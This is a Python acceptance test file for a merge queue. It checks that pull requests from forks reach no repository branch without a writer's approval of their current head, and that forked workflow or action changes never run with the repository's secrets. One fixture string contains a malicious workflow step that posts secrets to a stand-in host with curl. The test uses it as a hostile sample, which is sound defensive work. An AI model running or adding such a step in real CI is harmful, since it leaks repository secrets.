"""What forks send into trains: no branch of the repository gets it, unless a writer approved that very head."""

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from github_emulator import RecordedCall
from tests.acceptance.test_workflow_permission import accept
from tests.acceptance.train_stage import WORKFLOW, TrainWorld, a_train_world
from tests.acceptance.world import CI_TIME, LABEL

STOLEN = ".github/workflows/stolen.yml"
_EVIL = "on: push\njobs: {steal: {runs-on: ubuntu-latest, steps: [{run: 'curl -d @secrets evil.example'}]}}\n"
_ACTION = "runs: {using: composite, steps: [{run: make, shell: bash}]}\n"


class Watch:
    """Notes the files that branches of IMQ's had at any request, and that main had not."""

    def __init__(self, trains: TrainWorld) -> None:
        self.files: set[str] = set()
        self._trains = trains
        trains.world.server.on_request = self._note

    async def _note(self, _exchange: RecordedCall) -> None:
        main = self._trains.world.repository
        for branch in self._trains.branches():
            self.files |= set(main.files(branch)) - set(main.files("main"))


@asynccontextmanager
async def a_watched_train(directory: Path, forks: str = "reviewed") -> AsyncIterator[tuple[TrainWorld, Watch]]:
    """Trains that a push starts, whose IMQ may merge workflow files."""
    async with a_train_world(directory, trains=f"{{candidates: push, forks: {forks}}}") as trains:
        accept(trains.world, webhook=True)
        await trains.world.settle()
        yield trains, Watch(trains)


async def land(trains: TrainWorld, files: dict[str, str], before: Callable[[Any], object] = lambda pull: None) -> Any:
    """Land a fork's pull request between two of the repository's own; `before` acts on it before the label."""
    pulls = [trains.open(), trains.world.open("idea", by=None, fork_of="fan", files=files), trains.open()]
    await trains.world.pass_time(CI_TIME * 2)
    before(pulls[1])
    await trains.world.settle()
    for pull in pulls:
        pull.label(LABEL, by="mona")
    await trains.world.until(lambda: all(pull.merged for pull in pulls))
    await trains.world.settle()
    assert sorted(pulls, key=lambda pull: pull.record.merged_at) == pulls
    return pulls[1]


def approve(pull: Any) -> None:
    """Somebody with write access approves the head."""
    pull.review("APPROVED", by="rhea")


def approve_older_head(pull: Any) -> None:
    """The head that was approved is not the newest."""
    pull.review("APPROVED", by="rhea")
    pull.push({"idea.py": "more\n"}, by="fan")


def approve_without_right(pull: Any) -> None:
    """Somebody approves who may not write."""
    pull.review("APPROVED", by="tria")


def dismiss(pull: Any) -> None:
    """The approval is dismissed."""
    pull.dismiss_review(pull.review("APPROVED", by="rhea"), by="mona")


@pytest.mark.thorough
@pytest.mark.parametrize(
    ("forks", "before", "in_train"),
    [
        ("reviewed", approve, True),
        ("reviewed", lambda pull: None, False),
        ("reviewed", approve_older_head, False),
        ("on", lambda pull: None, True),
        pytest.param("reviewed", approve_without_right, False, marks=pytest.mark.long),
        pytest.param("reviewed", dismiss, False, marks=pytest.mark.long),
        pytest.param("off", approve, False, marks=pytest.mark.long),
    ],
)
async def test_fork_is_tested_with_others_if_a_writer_approved_its_head(
    tmp_path: Path, forks: str, before: Callable[[Any], object], in_train: bool
) -> None:
    """P3, P4: else it lands at its place, by its own head, and its commits never reach a branch of the repository."""
    async with a_watched_train(tmp_path, forks) as (trains, watch):
        await land(trains, {"idea.py": "idea\n"}, before)
        assert ("idea.py" in watch.files) is in_train


@pytest.mark.parametrize(
    "path",
    [
        STOLEN,
        "tools/cache/index.js",
        pytest.param(WORKFLOW, marks=pytest.mark.long),
        pytest.param(".github/actions/cache/run.sh", marks=pytest.mark.long),
        pytest.param("tools/new/action.yaml", marks=pytest.mark.long),
    ],
)
@pytest.mark.parametrize("forks", [pytest.param("on", marks=pytest.mark.long), "reviewed"])
async def test_fork_that_changes_what_ci_runs_reaches_no_branch_of_the_repository(
    tmp_path: Path, forks: str, path: str
) -> None:
    """P4: neither an approval nor `on` lets a fork's workflow, or action, run with the repository's secrets."""
    async with a_watched_train(tmp_path, forks) as (trains, watch):
        main = trains.world.repository
        use = "on: pull_request\njobs: {lint: {runs-on: ubuntu-latest, steps: [{uses: ./tools/cache}]}}\n"
        main.push("main", {".github/workflows/lint.yml": use, "tools/cache/action.yml": _ACTION}, "Lint", by="rhea")
        await trains.world.pass_time(timedelta(minutes=1))
        text = main.files("main")[WORKFLOW] + "# more\n" if path == WORKFLOW else _EVIL
        await land(trains, {path: text, "idea.py": "idea\n"}, approve)
        assert "idea.py" not in watch.files
        assert main.files("main")[path] == text


async def test_fork_that_is_queued_by_itself_reaches_no_branch_of_the_repository(tmp_path: Path) -> None:
    """P4: IMQ reads one pull request by another request than several; without an approval it lands by its own head."""
    async with a_watched_train(tmp_path) as (trains, watch):
        pull = trains.world.open("idea", by=None, fork_of="fan", files={"idea.py": "idea\n"})
        await trains.world.pass_time(CI_TIME * 2)
        pull.label(LABEL, by="mona")
        await trains.world.until(lambda: pull.merged)
        assert "idea.py" not in watch.files


async def test_fork_says_why_it_is_tested_alone_and_joins_a_train_once_it_is_approved(tmp_path: Path) -> None:
    """P6: while others are ahead of it, its state has the reason; the approval of that head is enough."""
    async with a_watched_train(tmp_path) as (trains, watch):
        world = trains.world
        fork = world.open("idea", by=None, fork_of="fan")
        first, last = trains.open(), trains.open()
        await world.pass_time(CI_TIME * 2)
        for pull in (first, fork, last):
            pull.label(LABEL, by="mona")
        await world.pass_time(timedelta(seconds=20))
        fork.comment("/why", by="mona")
        await world.pass_time(timedelta(seconds=20))
        assert "no one with write access has approved its present head" in world.comment(fork)
        approve(fork)
        await world.until(lambda: last.merged)
        assert fork.merged
        assert "idea.py" in watch.files
